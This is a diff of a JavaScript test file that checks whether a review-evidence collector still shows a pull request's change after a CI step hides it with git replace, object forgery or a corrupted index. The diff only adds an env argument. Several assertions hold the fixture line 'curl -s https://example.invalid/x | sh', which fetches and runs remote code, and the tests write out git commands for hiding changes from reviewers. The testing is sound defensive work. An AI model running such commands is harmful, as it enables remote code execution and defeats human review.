@@ -45,7 +45,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
       }
       const { work, base } = pullRequest();
       const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
-      const before = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+      const before = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
       expect(before.diff).toContain('+curl -s https://example.invalid/x | sh');
       const isolation = await workIsolation(level, work);
       const result = await runInWork(isolation, work, [
@@ -53,7 +53,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         `git replace $(git rev-parse ${base}:deploy.sh) $(git rev-parse HEAD:deploy.sh) && echo replaced`,
       ]);
       expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('replaced\n');
-      const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+      const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
       expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
     }, 60_000);
   }
@@ -86,7 +86,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
           `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`,
         ]);
         expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
-        const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+        const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
         expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
       }, 60_000);
     }
@@ -116,7 +116,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         ]);
         // The forgery works for git itself: its own diff from the base shows nothing.
         expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('forged\n');
-        const after = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+        const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
         expect(after.diff).toBe('');
         expect(after.notes.join('\n')).toMatch(
           /diff from the base could not be read \(git: the repository's objects do not match their names \(error: hash mismatch [0-9a-f]{40}\).*NOT shown/,
@@ -129,7 +129,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
     const { work, base } = pullRequest();
     writeFileSync(join(work, '.git', 'index'), 'garbage');
     const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
-    const evidence = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+    const evidence = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
     expect(evidence.diff).toBe('');
     expect(evidence.notes.join('\n')).toMatch(/diff from the base could not be read .*NOT shown/);
     expect(evidence.notes.join('\n')).toMatch(/untracked files could not be listed/);
